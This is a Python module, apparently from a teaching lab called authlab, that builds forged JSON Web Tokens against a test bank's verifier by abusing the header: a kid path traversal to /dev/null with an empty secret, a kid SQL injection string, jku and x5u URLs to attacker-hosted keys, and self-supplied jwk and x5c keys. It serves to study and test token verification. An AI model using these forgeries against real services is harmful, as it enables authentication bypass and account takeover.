"""Forgeries by the header: it names the key to check by, and Mallory has that key."""

import json
from base64 import b64encode
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID

from authlab.attacks.forging import Scene, forgery
from authlab.jose import Key, generate_key

__all__ = ["ATTACKS"]


@forgery("Point kid at a file", "nothing", "kid_path", "CWE-22")
def kid_path(scene: Scene) -> Iterator[str]:
    """Have the verifier open an empty file as the key: the secret is then no byte at all."""
    for kid in ("../null", "../../../../dev/null"):
        scene.say("names an empty file as the key, and signs with an empty secret", f"kid: {kid}")
        yield scene.write({"alg": "HS256", "kid": kid}, b"")


@forgery("Put SQL into kid", "nothing", "kid_sql", "CWE-89")
def kid_sql(scene: Scene) -> Iterator[str]:
    """Have the database answer with a secret of Mallory's."""
    kid = "' UNION SELECT 'mallory"
    scene.say("lets the query return a secret of her own", f"kid: {kid}")
    yield scene.write({"alg": "HS256", "kid": kid}, b"mallory")


@forgery("Point jku at her keys", "a web host", "jku", "CWE-918", "CWE-347")
def jku(scene: Scene) -> Iterator[str]:
    """Name an address of her own for the set of keys."""
    key = generate_key("ES256", kid="mallory")
    url = scene.host("/keys.json", json.dumps({"keys": [key.to_jwk()]}).encode())
    scene.say("signs by her own key, and says where to find it", f"jku: {url}")
    yield scene.write({"alg": "ES256", "kid": "mallory", "jku": url}, key)


@forgery("Point x5u at her certificate", "a web host", "x5u", "CWE-918", "CWE-347")
def x5u(scene: Scene) -> Iterator[str]:
    """Name an address of her own for the certificate."""
    key = generate_key("ES256", kid="mallory")
    url = scene.host("/certificate.pem", _certify(key, scene.clock.now()))
    scene.say("signs by her own key, and says where its certificate is", f"x5u: {url}")
    yield scene.write({"alg": "ES256", "kid": "mallory", "x5u": url}, key)


@forgery("Bring her own key in jwk", "nothing", "jwk", "CWE-347")
def jwk(scene: Scene) -> Iterator[str]:
    """Put her own key into the header: a public half, a shared secret, a certificate in x5c."""
    for alg in ("ES256", "HS256"):
        key = generate_key(alg, kid="mallory")
        members = key.to_jwk(private=alg == "HS256")
        scene.say("signs by her own key, and puts it into the header", f"jwk: {members}")
        yield scene.write({"alg": alg, "kid": "mallory", "jwk": members}, key)
    key = generate_key("ES256", kid="mallory")
    chain = [b64encode(_certify(key, scene.clock.now(), Encoding.DER)).decode()]
    scene.say("signs by her own key, and puts its certificate into the header", f"x5c: {chain}")
    yield scene.write({"alg": "ES256", "kid": "mallory", "x5c": chain}, key)


def _certify(key: Key, now: float, encoding: Encoding = Encoding.PEM) -> bytes:
    """Return a certificate for the bank's name that Mallory signed herself."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "bank.test")])
    moment, day = datetime.fromtimestamp(now, UTC), timedelta(days=1)
    certificate = (
        x509.CertificateBuilder(name, name, key.material.public_key(), x509.random_serial_number())
        .not_valid_before(moment - day)
        .not_valid_after(moment + day)
        .sign(key.material, SHA256())
    )
    return certificate.public_bytes(encoding)


ATTACKS = [kid_path, kid_sql, jku, x5u, jwk]
